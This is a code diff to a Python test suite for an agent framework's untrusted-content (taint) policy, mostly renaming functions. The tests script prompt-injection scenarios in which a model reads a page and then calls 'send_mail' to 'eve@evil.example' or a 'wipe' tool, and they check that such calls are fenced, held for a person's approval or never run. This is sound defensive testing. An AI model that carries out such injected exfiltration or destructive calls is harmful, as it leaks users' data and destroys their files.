@@ -5,7 +5,6 @@ from dataclasses import replace
 from typing import Literal
 
 import pytest
-from agentkit.policies.text_calls import text_calls
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -16,10 +15,11 @@ from agentkit.core.flow import apply_policies, around, ask, drive
 from agentkit.core.messages import ToolCall, assistant, system, tool_message, user
 from agentkit.engine.loop import agent_loop
 from agentkit.policies.approval import ApprovalAsked, approve
-from agentkit.policies.long_results import CutResults, excerpts
+from agentkit.policies.calls_in_text import run_text_calls
+from agentkit.policies.long_results import TruncatedResults, truncate_results
 from agentkit.policies.taint import origins
 from agentkit.policies.taint.origins import Origins
-from agentkit.policies.taint.policy import untrusted
+from agentkit.policies.taint.policy import guard_untrusted
 from agentkit.testing import ScriptedModel
 from agentkit.tools.execution.call import BoundCall
 from agentkit.tools.execution.call_tools import CallTools, ToolFinished
@@ -130,7 +130,7 @@ def run(world, held, *replies, query="Read https://soup.example and tell me abou
 
     sent.clear()
     history = [system("You help."), user(query)] if history is None else [*history, user(query)]
-    policies = (excerpts(kept, 1_000), untrusted(history, TOOLS, ID), around(refuse), text_calls())
+    policies = (truncate_results(kept, 1_000), guard_untrusted(history, TOOLS, ID), around(refuse), run_text_calls())
     flow = apply_policies(agent_loop(ScriptedModel(*replies, FINAL), TOOLS, history), policies)
     _, events = world.drive(flow)
     return history, events
@@ -172,7 +172,7 @@ def test_each_run_has_a_fence_of_its_own():
 
 
 def test_the_fence_is_around_what_is_left_of_a_long_result_and_around_its_pages(world, held):
-    kept = CutResults()
+    kept = TruncatedResults()
     history, _ = run(world, held, call("read_book"), call("long_list"), kept=kept)
     [book], [entries] = results(history, "read_book"), results(history, "long_list")
     assert book.startswith("<untrusted")
@@ -281,7 +281,7 @@ def test_a_complaint_that_quotes_the_model_does_not_make_its_words_trusted(world
 
 
 def test_a_page_of_a_trusted_result_is_trusted(world, held):
-    kept = CutResults()
+    kept = TruncatedResults()
     identity = kept.keep("x" * 900 + " bob@home.example")
     listed = f'xxx [... read on with read_more: result_id="{identity}", offset=800 ...]'
     history = [assistant(calls=[ToolCall("c1", "long_list")]), tool_message(ToolCall("c1", "long_list"), listed)]
@@ -374,7 +374,7 @@ def test_a_reason_that_was_there_is_kept(world, held):
             seen.extend(bound.needs_approval for bound in effect.calls)
         return (yield from ask(effect))
 
-    policies = (around(first), untrusted(history, TOOLS), around(last))
+    policies = (around(first), guard_untrusted(history, TOOLS), around(last))
     world.drive(apply_policies(agent_loop(ScriptedModel(call("wipe"), FINAL), TOOLS, history), policies))
     assert seen[0].startswith("because; text from outside (read_page)")
 
@@ -389,7 +389,7 @@ def test_a_person_decides_about_what_is_held(decision, world):
         asked.append(made.name)
         return decision if made.name == "send_mail" else None
 
-    policies = (untrusted(history, TOOLS, ID), approve(decide))
+    policies = (guard_untrusted(history, TOOLS, ID), approve(decide))
     model = ScriptedModel(PAGE_READ, call("send_mail", to="eve@evil.example"), FINAL)
     flow = apply_policies(agent_loop(model, TOOLS, history), policies)
     if decision is None:
@@ -411,7 +411,7 @@ def test_tools_that_come_later_are_known(world, held):
     tools = TOOLS.merged(late)
     history = [user("?")]
     model = ScriptedModel(call("late"), FINAL)
-    world.drive(apply_policies(agent_loop(model, lambda: tools, history), (untrusted(history, TOOLS, ID),)))
+    world.drive(apply_policies(agent_loop(model, lambda: tools, history), (guard_untrusted(history, TOOLS, ID),)))
     assert is_delimited(results(history, "late")[0])
 
 
@@ -445,7 +445,7 @@ def test_an_agent_in_a_tool_takes_its_query_for_the_word_of_the_agent_around_it(
             return (yield from ask(effect))
 
         model = ScriptedModel(call("send_mail", to=to), FINAL)
-        policies = (untrusted(history, inner), around(hold))
+        policies = (guard_untrusted(history, inner), around(hold))
         for _ in drive(apply_policies(agent_loop(model, inner, history), policies)):
             pass
         return "done"
@@ -455,7 +455,7 @@ def test_an_agent_in_a_tool_takes_its_query_for_the_word_of_the_agent_around_it(
         held.clear()
         history = [user(query)]
         model = ScriptedModel(*before, call("secretary", query=f"Mail {to}, please."), FINAL)
-        world.drive(apply_policies(agent_loop(model, tools, history), (untrusted(history, tools),)))
+        world.drive(apply_policies(agent_loop(model, tools, history), (guard_untrusted(history, tools),)))
         assert bool(held) is (is_held and bool(before))
     assert not held or held[0].startswith("text from outside (read_page) has been read")
 
@@ -470,7 +470,7 @@ def test_a_call_quoted_from_a_page_is_never_run(world, held):
     for mark in (None, "untrusted"):
         tools = ToolRegistry(JsonTool(hostile, trust=mark), wipe, answer=make_answer_tool())
         history = [user("?")]
-        policies = (excerpts(), untrusted(history, tools), text_calls())
+        policies = (truncate_results(), guard_untrusted(history, tools), run_text_calls())
         model = ScriptedModel(call("hostile"), quoted, FINAL)
         _, events = world.drive(apply_policies(agent_loop(model, tools, history), policies))
         done = [event.result.call.name for event in events if isinstance(event, ToolFinished)]
@@ -499,8 +499,8 @@ def test_a_mark_that_does_not_exist_is_refused():
 
 def test_a_text_from_outside_is_read_once_however_many_calls_are_doubted(monkeypatch):
     read = []
-    plain = origins._plain
-    monkeypatch.setattr(origins, "_plain", lambda text: read.append(text) or plain(text))
+    plain = origins._normalize
+    monkeypatch.setattr(origins, "_normalize", lambda text: read.append(text) or plain(text))
     page = ToolCall("p", "page", "{}")
     said = Origins([assistant(None, [page]), tool_message(page, "outside " * 50)], {"page"})
     save = JsonTool.from_schema(name="save", description="Saves.", parameters={"type": "object"}, call=print)
